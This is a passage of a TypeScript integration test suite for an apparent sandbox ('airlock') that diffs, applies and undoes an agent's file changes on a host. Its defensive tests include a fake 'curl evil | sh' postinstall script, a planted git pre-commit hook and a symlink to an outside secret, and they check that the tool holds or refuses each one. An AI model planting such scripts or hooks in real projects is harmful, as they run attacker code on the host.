import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import * as fs from 'node:fs';
import * as os from 'node:os';
import * as path from 'node:path';
import { after, describe, test, type TestContext } from 'node:test';
import { TransactionFailed } from '../../src/core/changes/hostTransaction.js';
import { formatChanges } from '../../src/core/changes/changeService.js';
import { summarizeChange } from '../../src/core/changes/changeSet.js';
import { AirlockError } from '../../src/core/ground/errors.js';
import {
  airlockLeftovers,
  changeFor,
  exists,
  hostTree,
  modeOf,
  numberedLines,
  paths,
  q,
  withinTime,
  sha256,
  sha256OfFile,
  startTask,
  statusLines,
  writeWithModes,
  writtenLines,
} from '../helpers/changeFixtures.js';
import { initRepo, makeTempDir, removeTempDirs, writeFiles } from '../helpers/tempWorkspace.js';

const MiB = 1024 * 1024;
const read = (root: string, rel: string) => fs.readFileSync(path.join(root, rel));
const text = (root: string, rel: string) => fs.readFileSync(path.join(root, rel), 'utf8');
const SYMLINK_RISK = 'symlink (applied only when chosen, and only if it points inside the workspace)';

/** A folder on a tmpfs of its own (unmounted and removed by the test's teardown). */
function tmpfsWorkspace(t: TestContext, options: string): string {
  const dir = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'airlock-tmpfs-')));
  execFileSync('mount', ['-t', 'tmpfs', '-o', options, 'tmpfs', dir]);
  t.after(() => {
    execFileSync('umount', [dir]);
    fs.rmdirSync(dir);
  });
  return dir;
}

describe('diff, apply and undo against a real engine (integration)', () => {
  after(removeTempDirs);

  test('edits, new nested files, deletions and a rename reach the host exactly as in the task', async (t) => {
    const ws = makeTempDir('airlock-chg-plain-');
    initRepo(ws, {
      'src/main.txt': numberedLines('line ', 40),
      'docs/guide.md': '# Guide\n\nSome words.\n',
      'delete-me.txt': 'bye\n',
      'olddir/x.txt': 'x\n',
      'olddir/y/z.txt': 'z\n',
      'keep.txt': 'keep\n',
    });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh(
      [
        "sed -i 's/^line 3$/line three/; s/^line 35$/line thirty-five/' src/main.txt",
        "mkdir -p a/b/c && printf 'fresh\\n' > a/b/c/new.txt",
        'rm delete-me.txt',
        'git mv docs/guide.md docs/manual.md',
        'rm -rf olddir',
      ].join(' && '),
    );
    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), [
      'added a/b/c/new.txt',
      'deleted delete-me.txt',
      'deleted olddir',
      'deleted olddir/x.txt',
      'deleted olddir/y',
      'deleted olddir/y/z.txt',
      'modified src/main.txt',
      'renamed docs/manual.md <- docs/guide.md',
    ]);
    assert.equal(changeFor(changeSet, 'src/main.txt').hunks, 2);
    const renamed = summarizeChange(changeFor(changeSet, 'docs/manual.md'));
    assert.equal(renamed.status, 'renamed');
    assert.equal(renamed.oldPath, 'docs/guide.md');
    for (const change of changeSet.files) {
      assert.deepEqual(change.risk, [], `${change.path} is not risky`);
      assert.equal(change.refusal, undefined);
      assert.equal(change.binary, false);
    }

    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(report.refused, []);
    assert.deepEqual(report.held, []);
    assert.deepEqual(writtenLines(report), [
      'delete delete-me.txt',
      'delete docs/guide.md',
      'delete olddir/x.txt',
      'delete olddir/y/z.txt',
      'mkdir a',
      'mkdir a/b',
      'mkdir a/b/c',
      'rmdir olddir',
      'rmdir olddir/y',
      'write a/b/c/new.txt',
      'write docs/manual.md',
      'write src/main.txt',
    ]);
    assert.ok(report.id);
    assert.equal(text(ws, 'src/main.txt'), numberedLines('line ', 40, { 3: 'line three', 35: 'line thirty-five' }));
    assert.equal(text(ws, 'docs/manual.md'), '# Guide\n\nSome words.\n');
    assert.equal(text(ws, 'a/b/c/new.txt'), 'fresh\n');
    for (const gone of ['delete-me.txt', 'docs/guide.md', 'olddir']) assert.equal(exists(path.join(ws, gone)), false, `${gone} must be gone`);
    assert.deepEqual(hostTree(ws, 'exec'), await task.taskTree());
    assert.deepEqual(airlockLeftovers(ws), []);
  });

  test('binary files, added and modified, arrive byte for byte', async (t) => {
    const ws = makeTempDir('airlock-chg-bin-');
    const original = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0, 0, 0, 0x0d, 1, 2, 3, 0xff, 0]);
    writeFiles(ws, { 'img.bin': original, 'note.txt': 'text\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    const modified = Buffer.from([0, 1, 2, 3, 0, 0xfe, 0xff, 0x0a, 0, 0x80, 0x81]);
    await task.write('img.bin', modified);
    await task.sh("mkdir -p blob && { head -c 3000 /dev/urandom; printf '\\000tail'; } > blob/new.bin");
    const containerSha = await task.shaInTask('blob/new.bin');

    const changes = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changes.changeSet), ['added blob/new.bin', 'modified img.bin']);
    const img = changeFor(changes.changeSet, 'img.bin');
    assert.equal(img.binary, true);
    assert.equal(img.hunks, 0);
    assert.equal(img.after?.sha256, sha256(modified));
    const added = summarizeChange(changeFor(changes.changeSet, 'blob/new.bin'));
    assert.equal(added.binary, true);
    assert.equal(added.newMode, '100644');
    assert.equal(added.newSize, 3005);
    assert.match(formatChanges(changes), /^Binary files a\/img\.bin and b\/img\.bin differ$/m);

    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['mkdir blob', 'write blob/new.bin', 'write img.bin']);
    assert.deepEqual(read(ws, 'img.bin'), modified);
    assert.equal(sha256OfFile(path.join(ws, 'blob/new.bin')), containerSha);
    assert.equal(fs.statSync(path.join(ws, 'blob/new.bin')).size, 3005);
    assert.equal(text(ws, 'note.txt'), 'text\n');
  });

  test('CRLF files keep their line endings; choosing hunk 2 of 2 applies only that hunk', async (t) => {
    const ws = makeTempDir('airlock-chg-crlf-');
    const base = numberedLines('row ', 20, {}, '\r\n');
    writeFiles(ws, { 'crlf.txt': base, 'f.txt': base });
    const task = await startTask(t, ws);
    if (!task) return;
    const edited = numberedLines('row ', 20, { 2: 'ROW 2', 18: 'ROW 18' }, '\r\n');
    await task.write('crlf.txt', edited);
    await task.write('f.txt', edited);

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), ['modified crlf.txt', 'modified f.txt']);
    for (const rel of ['crlf.txt', 'f.txt']) {
      assert.equal(changeFor(changeSet, rel).hunks, 2);
      assert.equal(changeFor(changeSet, rel).binary, false);
    }
    const { report } = await task.changes.apply(task.id, { hunks: { 'f.txt': [2] } });
    assert.deepEqual(report.refused, []);
    assert.deepEqual(writtenLines(report), ['write crlf.txt', 'write f.txt']);
    assert.deepEqual(read(ws, 'crlf.txt'), Buffer.from(edited));
    assert.deepEqual(read(ws, 'f.txt'), Buffer.from(numberedLines('row ', 20, { 18: 'ROW 18' }, '\r\n')));
  });

  test('names with spaces and non-ASCII letters are added and modified', async (t) => {
    const ws = makeTempDir('airlock-chg-uni-');
    const existing = 'dir with space/ünïcødé 文件.txt';
    writeFiles(ws, { [existing]: 'original\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    const fresh = 'nëw dïr/sub dir/fïlé 名前 (1).txt';
    await task.sh(`printf 'changed ✓\\n' >> ${q(existing)} && mkdir -p ${q(path.posix.dirname(fresh))} && printf 'ñ\\n' > ${q(fresh)}`);

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), [`added ${fresh}`, `modified ${existing}`]);
    assert.equal(changeFor(changeSet, existing).hunks, 1);
    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['mkdir nëw dïr', 'mkdir nëw dïr/sub dir', `write ${existing}`, `write ${fresh}`]);
    assert.equal(text(ws, existing), 'original\nchanged ✓\n');
    assert.equal(text(ws, fresh), 'ñ\n');
    assert.deepEqual(hostTree(ws, 'exec'), await task.taskTree());
  });

  test('a file replaced by a folder and a folder replaced by a file (type changes)', async (t) => {
    const ws = makeTempDir('airlock-chg-type-');
    writeFiles(ws, { thing: 'was a file\n', 'folder/a.txt': 'a\n', 'folder/sub/b.txt': 'b\n', 'stay.txt': 'stay\n' });
    const original = hostTree(ws);
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("rm thing && mkdir thing && printf 'child\\n' > thing/child.txt && rm -rf folder && printf 'now a file\\n' > folder");

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), [
      'added thing/child.txt',
      'deleted folder/a.txt',
      'deleted folder/sub',
      'deleted folder/sub/b.txt',
      'typechange folder',
      'typechange thing',
    ]);
    const thing = summarizeChange(changeFor(changeSet, 'thing'));
    assert.equal(thing.oldMode, '100644');
    assert.equal(thing.newMode, '040000');
    const folder = summarizeChange(changeFor(changeSet, 'folder'));
    assert.equal(folder.oldMode, '040000');
    assert.equal(folder.newMode, '100644');

    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(report.refused, []);
    assert.deepEqual(report.held, []);
    assert.ok(fs.lstatSync(path.join(ws, 'thing')).isDirectory());
    assert.equal(text(ws, 'thing/child.txt'), 'child\n');
    assert.ok(fs.lstatSync(path.join(ws, 'folder')).isFile());
    assert.equal(text(ws, 'folder'), 'now a file\n');
    assert.equal(text(ws, 'stay.txt'), 'stay\n');
    assert.deepEqual(hostTree(ws, 'exec'), await task.taskTree());
    assert.deepEqual(airlockLeftovers(ws), []);

    await task.changes.undo(task.id);
    assert.deepEqual(hostTree(ws), original, 'undo turns both type changes back');
  });

  test('symlinks: outside targets are never applied, an inside one only when chosen', async (t) => {
    const ws = makeTempDir('airlock-chg-link-');
    writeFiles(ws, { 'README.md': '# readme\n', 'docs/guide.md': 'guide\n' });
    const outside = makeTempDir('airlock-chg-outside-');
    const secret = path.join(outside, 'secret.txt');
    fs.writeFileSync(secret, 'outside secret\n');
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh(`ln -s ${q(secret)} abs-link && ln -s ../.. docs/up && ln -s ../README.md docs/link`);

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), ['added abs-link', 'added docs/link', 'added docs/up']);
    const abs = summarizeChange(changeFor(changeSet, 'abs-link'));
    assert.equal(abs.symlinkTarget, secret);
    assert.equal(abs.newMode, '120000');
    assert.match(String(abs.refusal), /outside the workspace/);
    const up = summarizeChange(changeFor(changeSet, 'docs/up'));
    assert.equal(up.symlinkTarget, '../..');
    assert.match(String(up.refusal), /outside the workspace/);
    const inside = summarizeChange(changeFor(changeSet, 'docs/link'));
    assert.equal(inside.symlinkTarget, '../README.md');
    assert.equal(inside.refusal, undefined);
    assert.deepEqual(inside.risk, [SYMLINK_RISK]);

    const blanket = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(paths(blanket.held), ['abs-link', 'docs/link', 'docs/up']);
    assert.deepEqual(blanket.written, []);
    assert.equal(blanket.id, undefined);

    const forced = (await task.changes.apply(task.id, { paths: ['abs-link', 'docs/up'], allowRisky: ['abs-link', 'docs/up'] })).report;
    assert.deepEqual(paths(forced.refused), ['abs-link', 'docs/up']);
    for (const item of forced.refused) assert.match(item.reason, /outside the workspace/);
    assert.deepEqual(forced.written, []);

    const chosen = (await task.changes.apply(task.id, { allowRisky: ['docs/link'] })).report;
    assert.deepEqual(writtenLines(chosen), ['symlink docs/link']);
    assert.deepEqual(paths(chosen.held), ['abs-link', 'docs/up']);
    assert.equal(fs.readlinkSync(path.join(ws, 'docs/link')), '../README.md');
    assert.equal(exists(path.join(ws, 'abs-link')), false);
    assert.equal(exists(path.join(ws, 'docs/up')), false);
    assert.deepEqual(Object.keys(hostTree(ws)).sort(), ['README.md', 'docs', 'docs/guide.md', 'docs/link']);
    assert.equal(fs.readFileSync(secret, 'utf8'), 'outside secret\n');
    assert.deepEqual(fs.readdirSync(outside), ['secret.txt']);
  });

  test('a folder that became a symlink on the host is never written through', async (t) => {
    const ws = makeTempDir('airlock-chg-hostlink-');
    writeFiles(ws, { 'sub/file.txt': 'base\n', 'other.txt': 'other\n' });
    const outside = makeTempDir('airlock-chg-outdir-');
    fs.writeFileSync(path.join(outside, 'file.txt'), 'outside original\n');
    const task = await startTask(t, ws);
    if (!task) return;
    fs.rmSync(path.join(ws, 'sub'), { recursive: true });
    fs.symlinkSync(outside, path.join(ws, 'sub'));
    await task.sh("printf 'agent edit\\n' >> sub/file.txt && printf 'new\\n' > sub/new.txt && printf 'other edited\\n' > other.txt");

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), ['added sub/new.txt', 'modified other.txt', 'modified sub/file.txt']);
    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(paths(report.refused), ['sub/file.txt', 'sub/new.txt']);
    for (const item of report.refused) assert.match(item.reason, /sub is a symlink on the host/);
    assert.deepEqual(writtenLines(report), ['write other.txt']);
    assert.equal(text(ws, 'other.txt'), 'other edited\n');
    assert.equal(fs.readlinkSync(path.join(ws, 'sub')), outside);
    assert.deepEqual(fs.readdirSync(outside), ['file.txt']);
    assert.equal(fs.readFileSync(path.join(outside, 'file.txt'), 'utf8'), 'outside original\n');

    const named = (await task.changes.apply(task.id, { paths: ['sub/file.txt'] })).report;
    assert.deepEqual(paths(named.refused), ['sub/file.txt']);
    assert.deepEqual(fs.readdirSync(outside), ['file.txt']);
    assert.equal(fs.readFileSync(path.join(outside, 'file.txt'), 'utf8'), 'outside original\n');
  });

  test('a new git hook is shown with a refusal and never reaches the host', async (t) => {
    const ws = makeTempDir('airlock-chg-hook-');
    initRepo(ws, { 'README.md': '# repo\n' });
    const hooksBefore = fs.readdirSync(path.join(ws, '.git/hooks')).sort();
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("mkdir -p .git/hooks && printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit && chmod +x .git/hooks/pre-commit && printf 'more\\n' >> README.md");

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), ['added .git/hooks/pre-commit', 'modified README.md']);
    const hook = changeFor(changeSet, '.git/hooks/pre-commit');
    assert.match(hook.refusal ?? '', /\.git\//);
    assert.ok(hook.risk.includes('git hooks and configuration run on the host'), hook.risk.join('; '));

    const blanket = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(paths(blanket.held), ['.git/hooks/pre-commit']);
    assert.deepEqual(writtenLines(blanket), ['write README.md']);
    const named = (await task.changes.apply(task.id, { paths: ['.git/hooks/pre-commit'], allowRisky: ['.git/hooks/pre-commit'] })).report;
    assert.deepEqual(paths(named.refused), ['.git/hooks/pre-commit']);
    assert.deepEqual(named.written, []);
    const risky = (await task.changes.apply(task.id, { allowRisky: ['.git/hooks/pre-commit'] })).report;
    assert.deepEqual(paths(risky.refused), ['.git/hooks/pre-commit']);
    assert.deepEqual(risky.written, []);
    assert.equal(exists(path.join(ws, '.git/hooks/pre-commit')), false);
    assert.deepEqual(fs.readdirSync(path.join(ws, '.git/hooks')).sort(), hooksBefore);
    assert.equal(text(ws, 'README.md'), '# repo\nmore\n');
  });

  test('a package.json script change is held by a blanket apply and applied when chosen', async (t) => {
    const ws = makeTempDir('airlock-chg-pkg-');
    const before = `${JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node test.js' } }, null, 2)}\n`;
    writeFiles(ws, { 'package.json': before, 'index.js': 'module.exports = 1;\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    const changed = `${JSON.stringify({ name: 'demo', version: '1.0.0', scripts: { test: 'node test.js', postinstall: 'curl evil | sh' } }, null, 2)}\n`;
    await task.write('package.json', changed);
    await task.sh("printf 'module.exports = 2;\\n' > index.js");

    const { changeSet } = await task.changes.changes(task.id);
    const pkg = changeFor(changeSet, 'package.json');
    assert.equal(pkg.status, 'modified');
    assert.equal(pkg.risk.length, 1);
    assert.match(pkg.risk[0], /scripts/);
    const blanket = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(writtenLines(blanket), ['write index.js']);
    assert.deepEqual(paths(blanket.held), ['package.json']);
    assert.match(blanket.held[0].reason, /scripts/);
    assert.equal(text(ws, 'package.json'), before);
    const chosen = (await task.changes.apply(task.id, { allowRisky: ['package.json'] })).report;
    assert.deepEqual(writtenLines(chosen), ['write package.json']);
    assert.equal(text(ws, 'package.json'), changed);
  });

  test('a 200 MB file is refused over the default limit and applied exactly under a raised one', async (t) => {
    const ws = makeTempDir('airlock-chg-big-');
    writeFiles(ws, { 'small.txt': 'small\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("head -c 200M /dev/urandom > big.bin && printf 'edited\\n' > small.txt");
    const containerSha = await task.shaInTask('big.bin');

    const { changeSet } = await task.changes.changes(task.id);
    const big = summarizeChange(changeFor(changeSet, 'big.bin'));
    assert.equal(big.status, 'added');
    assert.equal(big.newSize, 200 * MiB);
    assert.match(String(big.refusal), /over the per-file limit of 100 MB/);
    const blanket = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(writtenLines(blanket), ['write small.txt']);
    assert.deepEqual(paths(blanket.held), ['big.bin']);
    const named = (await task.changes.apply(task.id, { paths: ['big.bin'] })).report;
    assert.deepEqual(paths(named.refused), ['big.bin']);
    assert.match(named.refused[0].reason, /limit/);
    assert.equal(exists(path.join(ws, 'big.bin')), false);

    const raised = await withinTime('the 200 MB apply', () => task.changes.apply(task.id, { paths: ['big.bin'] }, { maxFileBytes: 300 * MiB }));
    assert.equal(changeFor(raised.changes.changeSet, 'big.bin').refusal, undefined);
    assert.deepEqual(writtenLines(raised.report), ['write big.bin']);
    assert.equal(raised.report.written[0].sha256, containerSha);
    assert.equal(fs.statSync(path.join(ws, 'big.bin')).size, 200 * MiB);
    assert.equal(sha256OfFile(path.join(ws, 'big.bin')), containerSha);
    assert.equal(modeOf(path.join(ws, 'big.bin')), 0o644);
    assert.deepEqual(airlockLeftovers(ws), []);
  });

  test(
    'an exec bit added to an unchanged file is risky and applied when chosen',
    async (t) => {
      const ws = makeTempDir('airlock-chg-exec-');
      writeWithModes(ws, { 'script.sh': { content: '#!/bin/sh\necho hi\n', mode: 0o644 } });
      const task = await startTask(t, ws);
      if (!task) return;
      await task.sh('chmod +x script.sh');

      const { changeSet } = await task.changes.changes(task.id);
      assert.deepEqual(statusLines(changeSet), ['modified script.sh']);
      const script = summarizeChange(changeFor(changeSet, 'script.sh'));
      assert.equal(script.oldMode, '100644');
      assert.equal(script.newMode, '100755');
      assert.deepEqual(script.risk, ['exec bit is new']);
      assert.equal(script.hunks, 0);
      assert.equal(script.refusal, undefined);
      const blanket = (await task.changes.apply(task.id, {})).report;
      assert.deepEqual(paths(blanket.held), ['script.sh']);
      assert.match(blanket.held[0].reason, /exec bit is new/);
      assert.deepEqual(blanket.written, []);
      assert.equal(modeOf(path.join(ws, 'script.sh')), 0o644);
      const chosen = (await task.changes.apply(task.id, { allowRisky: ['script.sh'] })).report;
      assert.deepEqual(chosen.refused, []);
      assert.deepEqual(writtenLines(chosen), ['write script.sh']);
      assert.equal(modeOf(path.join(ws, 'script.sh')) & 0o111, 0o111);
      assert.equal(modeOf(path.join(ws, 'script.sh')), 0o755);
      assert.equal(text(ws, 'script.sh'), '#!/bin/sh\necho hi\n');
    },
  );

  test('a new exec bit with new content is applied when chosen; a setuid bit is stripped', async (t) => {
    const ws = makeTempDir('airlock-chg-mode-');
    writeWithModes(ws, { 'run.sh': { content: '#!/bin/sh\necho hi\n', mode: 0o644 } });
    const task = await startTask(t, ws);
    if (!task) return;
    await task.sh("printf 'echo more\\n' >> run.sh && chmod +x run.sh && printf '#!/bin/sh\\necho tool\\n' > tool && chmod 4755 tool && find tool -perm -4000 | grep -qx tool");

    const { changeSet } = await task.changes.changes(task.id);
    assert.deepEqual(statusLines(changeSet), ['added tool', 'modified run.sh']);
    const run = summarizeChange(changeFor(changeSet, 'run.sh'));
    assert.equal(run.oldMode, '100644');
    assert.equal(run.newMode, '100755');
    assert.deepEqual(run.risk, ['exec bit is new']);
    assert.equal(run.hunks, 1);
    const tool = summarizeChange(changeFor(changeSet, 'tool'));
    assert.equal(tool.newMode, '100755');
    assert.deepEqual(tool.risk, ['exec bit is new']);
    assert.deepEqual(tool.notes, ['setuid/setgid/sticky bits are stripped on apply']);
    assert.equal(tool.refusal, undefined);

    const blanket = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(paths(blanket.held), ['run.sh', 'tool']);
    assert.deepEqual(blanket.written, []);
    assert.equal(modeOf(path.join(ws, 'run.sh')), 0o644);
    const chosen = (await task.changes.apply(task.id, { allowRisky: ['run.sh', 'tool'] })).report;
    assert.deepEqual(writtenLines(chosen), ['write run.sh', 'write tool']);
    assert.equal(modeOf(path.join(ws, 'run.sh')) & 0o111, 0o111);
    assert.equal(modeOf(path.join(ws, 'run.sh')), 0o755);
    assert.equal(text(ws, 'run.sh'), '#!/bin/sh\necho hi\necho more\n');
    assert.equal(modeOf(path.join(ws, 'tool')), 0o755, 'setuid stripped, permission bits kept');
    assert.equal(text(ws, 'tool'), '#!/bin/sh\necho tool\n');
  });

  test('host edits since the snapshot: a separate region merges, the same region is a conflict', async (t) => {
    const ws = makeTempDir('airlock-chg-merge-');
    writeFiles(ws, { 'merge.txt': numberedLines('m', 20), 'conflict.txt': numberedLines('c', 20), 'crlf.txt': numberedLines('r', 20, {}, '\r\n') });
    const task = await startTask(t, ws);
    if (!task) return;
    fs.writeFileSync(path.join(ws, 'merge.txt'), numberedLines('m', 20, { 2: 'm2 host' }));
    fs.writeFileSync(path.join(ws, 'crlf.txt'), numberedLines('r', 20, { 1: 'r1 host' }, '\r\n'));
    await task.write('crlf.txt', numberedLines('r', 20, { 19: 'r19 task' }, '\r\n'));
    const hostConflict = numberedLines('c', 20, { 5: 'c5 host' });
    fs.writeFileSync(path.join(ws, 'conflict.txt'), hostConflict);
    await task.sh("sed -i 's/^m18$/m18 task/' merge.txt && sed -i 's/^c5$/c5 task/' conflict.txt");

    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['merge crlf.txt', 'merge merge.txt']);
    assert.equal(text(ws, 'merge.txt'), numberedLines('m', 20, { 2: 'm2 host', 18: 'm18 task' }));
    assert.deepEqual(read(ws, 'crlf.txt'), Buffer.from(numberedLines('r', 20, { 1: 'r1 host', 19: 'r19 task' }, '\r\n')));
    assert.deepEqual(paths(report.refused), ['conflict.txt']);
    assert.match(report.refused[0].reason, /conflict/);
    assert.equal(text(ws, 'conflict.txt'), hostConflict);
  });

  test('a full disk while staging (2 MB tmpfs, 3 MB file) leaves the host exactly as it was', async (t) => {
    const ws = tmpfsWorkspace(t, 'size=2m');
    writeFiles(ws, { 'a.txt': 'a\n', 'b.txt': 'b\n', 'c.txt': 'c\n' });
    const task = await startTask(t, ws);
    if (!task) return;
    const before = hostTree(ws);
    await task.sh("printf 'A\\n' > a.txt && printf 'B\\n' > b.txt && printf 'C\\n' > c.txt && head -c 3M /dev/urandom > big3.bin");

    // The scan copies the 3 MB file out; the apply then fails while staging.
    const changes = await withinTime('the diff with a 3 MB file', () => task.changes.changes(task.id, { maxFileBytes: 50 * MiB }));
    await assert.rejects(task.changes.apply(task.id, {}, { changes }), (error: unknown) => {
      assert.ok(error instanceof TransactionFailed, String(error));
      assert.equal(error.rolledBack, true);
      assert.match(error.message, /ENOSPC/);
      assert.match(error.message, /the host was left exactly as it was/);
      return true;
    });
    assert.deepEqual(hostTree(ws), before);
    assert.deepEqual(airlockLeftovers(ws), []);
    const warning = task.service.store.audit(task.id).records().filter((record) => record.type === 'warning').at(-1);
    assert.match(String(warning?.message), /apply failed/);
    await assert.rejects(task.changes.undo(task.id), /there is no apply to undo/);
  });

  test('running out of inodes half-way through the host changes rolls every change back', async (t) => {
    // root + a.txt + olddir + olddir/x.txt use 4 inodes; staging two files fills the 6. Removing
    // olddir/x.txt and olddir frees 2, so the third new folder (new/a/b) fails with ENOSPC.
    const ws = tmpfsWorkspace(t, 'size=2m,nr_inodes=6');
    writeWithModes(ws, { 'a.txt': { content: 'a\n', mode: 0o640 }, 'olddir/x.txt': { content: 'x\n', mode: 0o600 } });
    fs.chmodSync(path.join(ws, 'olddir'), 0o750);
    const task = await startTask(t, ws);
    if (!task) return;
    const before = hostTree(ws);
    await task.sh("printf 'A\\n' > a.txt && rm -rf olddir && mkdir -p new/a/b && printf 'c\\n' > new/a/b/c.txt");

    const mutations: string[] = [];
    await assert.rejects(
      task.changes.apply(task.id, {}, { afterMutation: (_index, step) => void mutations.push(step.path) }),
      (error: unknown) => {
        assert.ok(error instanceof TransactionFailed, String(error));
        assert.equal(error.rolledBack, true);
        assert.match(error.message, /ENOSPC.*the host was left exactly as it was/);
        return true;
      },
    );
    assert.deepEqual(mutations, ['olddir/x.txt', 'olddir', 'new', 'new/a'], 'the failure came after four real host changes');
    assert.deepEqual(hostTree(ws), before);
    assert.deepEqual(airlockLeftovers(ws), []);
  });

  test('a failure injected after the second host change rolls the first one back', async (t) => {
    const ws = makeTempDir('airlock-chg-seam-');
    writeWithModes(ws, { 'a.txt': { content: 'a\n', mode: 0o640 }, 'b.txt': { content: 'b\n', mode: 0o600 }, 'keep.txt': { content: 'keep\n' } });
    const task = await startTask(t, ws);
    if (!task) return;
    const before = hostTree(ws);
    await task.sh("printf 'A\\n' > a.txt && rm b.txt && mkdir -p new/dir && printf 'c\\n' > new/dir/c.txt");

    const seen: number[] = [];
    await assert.rejects(
      task.changes.apply(task.id, {}, {
        afterMutation: (index) => {
          seen.push(index);
          if (index === 1) throw new Error('injected failure at mutation 1');
        },
      }),
      (error: unknown) => {
        assert.ok(error instanceof TransactionFailed, String(error));
        assert.equal(error.rolledBack, true);
        assert.match(error.message, /injected failure at mutation 1.*the host was left exactly as it was/);
        return true;
      },
    );
    assert.deepEqual(seen, [0, 1]);
    assert.deepEqual(hostTree(ws), before);
    assert.deepEqual(airlockLeftovers(ws), []);
    await assert.rejects(task.changes.undo(task.id), /there is no apply to undo/);

    const { report } = await task.changes.apply(task.id, {});
    assert.deepEqual(writtenLines(report), ['delete b.txt', 'mkdir new', 'mkdir new/dir', 'write a.txt', 'write new/dir/c.txt']);
    assert.equal(text(ws, 'a.txt'), 'A\n');
    assert.equal(modeOf(path.join(ws, 'a.txt')), 0o640);
  });

  test('undo restores the exact previous host state, one apply at a time; every apply and undo is audited', async (t) => {
    const ws = makeTempDir('airlock-chg-undo-');
    writeWithModes(ws, {
      'edit.txt': { content: 'one\ntwo\n', mode: 0o640 },
      'gone.txt': { content: 'gone\n', mode: 0o600 },
      'olddir/inner.txt': { content: 'inner\n', mode: 0o644 },
      'script.sh': { content: '#!/bin/sh\n', mode: 0o644 },
      'from.txt': { content: 'rename me\n', mode: 0o644 },
    });
    fs.chmodSync(path.join(ws, 'olddir'), 0o750);
    const task = await startTask(t, ws);
    if (!task) return;
    const original = hostTree(ws);
    await task.sh(
      [
        "printf 'one\\nTWO\\n' > edit.txt",
        'rm gone.txt',
        'rm -rf olddir',
        "mkdir -p made/deep && printf 'new\\n' > made/deep/new.txt",
        "printf 'echo hi\\n' >> script.sh && chmod +x script.sh",
        'mv from.txt to.txt',
      ].join(' && '),
    );

    const first = (await task.changes.apply(task.id, {})).report;
    assert.deepEqual(paths(first.held), ['script.sh']);
    assert.deepEqual(first.refused, []);
    assert.equal(text(ws, 'edit.txt'), 'one\nTWO\n');
    assert.equal(modeOf(path.join(ws, 'edit.txt')), 0o640, 'a modified file keeps its host mode');
    for (const gone of ['gone.txt', 'olddir', 'from.txt']) assert.equal(exists(path.join(ws, gone)), false, gone);
    assert.equal(text(ws, 'made/deep/new.txt'), 'new\n');
    assert.equal(text(ws, 'to.txt'), 'rename me\n');
    const afterFirst = hostTree(ws);

    const second = (await task.changes.apply(task.id, { paths: ['script.sh'], allowRisky: ['script.sh'] })).report;
    assert.deepEqual(writtenLines(second), ['write script.sh']);
    assert.equal(modeOf(path.join(ws, 'script.sh')), 0o755);

    const applied = task.service.store.audit(task.id).records().filter((record) => record.type === 'changes.applied');
    assert.equal(applied.length, 2);
    assert.deepEqual(applied.map((record) => record.apply), [first.id, second.id]);
    const written = applied[0].written as Array<{ path: string; action: string; sha256?: string; previousSha256?: string }>;
    assert.deepEqual(written.map((item) => `${item.action} ${item.path}`).sort(), writtenLines(first));
    for (const item of written.filter((entry) => entry.action === 'write')) assert.equal(item.sha256, sha256OfFile(path.join(ws, item.path)), item.path);
    assert.equal(written.find((item) => item.path === 'edit.txt')?.previousSha256, sha256('one\ntwo\n'));
    assert.equal(written.find((item) => item.path === 'gone.txt' && item.action === 'delete')?.previousSha256, sha256('gone\n'));
    assert.deepEqual(applied[0].held, first.held);
    const scriptWrite = (applied[1].written as Array<{ path: string; sha256?: string; previousSha256?: string }>)[0];
    assert.deepEqual(scriptWrite, { path: 'script.sh', action: 'write', sha256: sha256('#!/bin/sh\necho hi\n'), previousSha256: sha256('#!/bin/sh\n') });
    assert.equal(text(ws, 'script.sh'), '#!/bin/sh\necho hi\n');

    const undoSecond = await task.changes.undo(task.id);
    assert.equal(undoSecond.id, second.id);
    assert.deepEqual(undoSecond.restored, ['script.sh']);
    assert.deepEqual(hostTree(ws), afterFirst);
    const undoFirst = await task.changes.undo(task.id);
    assert.equal(undoFirst.id, first.id);
    assert.deepEqual(hostTree(ws), original, 'bytes, modes, deleted files and folders back; created folders gone');
    assert.equal(exists(path.join(ws, 'made')), false);
    await assert.rejects(task.changes.undo(task.id), (error: unknown) => AirlockError.is(error) && /there is no apply to undo/.test(error.message));

    const undone = task.service.store.audit(task.id).records().filter((record) => record.type === 'changes.undone');
    assert.deepEqual(undone.map((record) => record.apply), [second.id, first.id]);
    assert.deepEqual(undone[0].restored, [{ path: 'script.sh', kind: 'file', sha256: sha256('#!/bin/sh\n') }]);
    const restored = undone[1].restored as Array<{ path: string; kind: string; sha256?: string }>;
